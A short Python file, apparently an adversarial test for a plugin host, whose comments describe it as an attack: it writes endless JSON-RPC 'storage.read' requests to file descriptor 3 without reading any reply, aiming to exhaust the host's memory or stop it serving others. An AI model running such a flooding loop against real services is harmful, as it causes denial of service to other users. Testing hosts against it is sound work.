# attack: make requests without end and never read an answer
# success: the host collects answers in memory, or stops serving others
import os


def go(input):
    number = 0
    while True:
        number += 1
        os.write(3, b'{"jsonrpc":"2.0","id":%d,"method":"storage.read","params":{"key":"a"}}\n' % number)
